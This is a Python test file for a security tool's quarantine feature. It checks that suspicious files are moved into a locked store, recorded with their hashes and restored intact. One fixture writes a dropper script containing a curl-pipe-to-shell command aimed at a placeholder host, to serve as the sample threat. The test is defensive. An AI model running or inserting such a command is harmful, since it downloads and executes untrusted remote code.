"""Quarantine: the file leaves its path, sits mode 000 in a 0700 store, the ledger
records what it was (sha256 checked against hashlib over the bytes the test wrote), and
restore puts back content, owner and mode. Across filesystems (a tmpfs) it is copied
and unlinked. Symlinks, directories and the store itself are refused."""

from __future__ import annotations

import hashlib
import json
import os
import stat
from pathlib import Path

import pytest

from mamori.response.base import ActionError
from mamori.response.quarantine import LEDGER, Quarantine
from tests.support import need_root


def test_quarantine_and_restore(tmp_path: Path) -> None:
    need_root()
    victim = tmp_path / "work" / "dropper.sh"
    victim.parent.mkdir()
    body = b"#!/bin/sh\ncurl http://example.invalid | sh\n"
    victim.write_bytes(body)
    os.chown(victim, 1234, 4321)
    victim.chmod(0o4751)
    store = tmp_path / "store"
    q = Quarantine(store)
    entry = q.quarantine(str(victim), rule="Dropper")
    assert not victim.exists()
    stored = Path(entry.stored)
    assert stored.parent == store and stored.read_bytes() == body
    assert stat.S_IMODE(stored.stat().st_mode) == 0
    assert stat.S_IMODE(store.stat().st_mode) == 0o700 and store.stat().st_uid == 0
    assert entry.sha256 == hashlib.sha256(body).hexdigest()
    assert (entry.uid, entry.gid, entry.mode, entry.size) == (1234, 4321, 0o4751, len(body))
    assert entry.method == "rename" and entry.rule == "Dropper"
    ledger = json.loads((store / LEDGER).read_text())
    assert ledger[0]["original"] == str(victim) and ledger[0]["sha256"] == entry.sha256
    assert stat.S_IMODE((store / LEDGER).stat().st_mode) == 0o600

    restored = q.restore(entry.id)
    assert restored == entry
    st = victim.stat()
    assert victim.read_bytes() == body
    assert (st.st_uid, st.st_gid, stat.S_IMODE(st.st_mode)) == (1234, 4321, 0o4751)
    assert not stored.exists() and q.entries() == []
    with pytest.raises(ActionError, match="no quarantined file"):
        q.restore(entry.id)


def test_across_filesystems_the_file_is_copied(tmpfs: Path, tmp_path: Path) -> None:
    victim = tmpfs / "miner"
    victim.write_bytes(b"\x7fELF" + os.urandom(100_000))
    digest = hashlib.sha256(victim.read_bytes()).hexdigest()
    q = Quarantine(tmp_path / "store")
    entry = q.quarantine(str(victim))
    assert entry.method == "copy" and entry.sha256 == digest and not victim.exists()
    victim.write_bytes(b"a new file by the same name")
    with pytest.raises(ActionError, match="exists again"):
        q.restore(entry.id)
    victim.unlink()
    q.restore(entry.id)
    assert hashlib.sha256(victim.read_bytes()).hexdigest() == digest


def test_what_is_never_quarantined(tmp_path: Path) -> None:
    need_root()
    q = Quarantine(tmp_path / "store")
    target = tmp_path / "real"
    target.write_text("x")
    (tmp_path / "link").symlink_to(target)
    with pytest.raises(ActionError, match="not a regular file"):
        q.quarantine(str(tmp_path / "link"))
    with pytest.raises(ActionError, match="not a regular file"):
        q.quarantine(str(tmp_path))
    with pytest.raises(ActionError, match="absolute"):
        q.quarantine("relative/path")
    with pytest.raises(ActionError, match="No such file"):
        q.quarantine(str(tmp_path / "missing"))
    entry = q.quarantine(str(target))
    with pytest.raises(ActionError, match="inside the quarantine store"):
        q.quarantine(entry.stored)
    assert target.exists() is False and (tmp_path / "link").is_symlink()


def test_a_damaged_ledger_is_an_action_error_not_a_crash(tmp_path: Path) -> None:
    store = tmp_path / "store"
    store.mkdir(mode=0o700)
    q = Quarantine(store)
    (store / LEDGER).write_text('[{"id": "x"}, 3, {"nonsense": true}]')
    assert q.entries() == []
    for bad in ("{", '{"a": 1}'):
        (store / LEDGER).write_text(bad)
        with pytest.raises(ActionError, match="ledger"):
            q.entries()
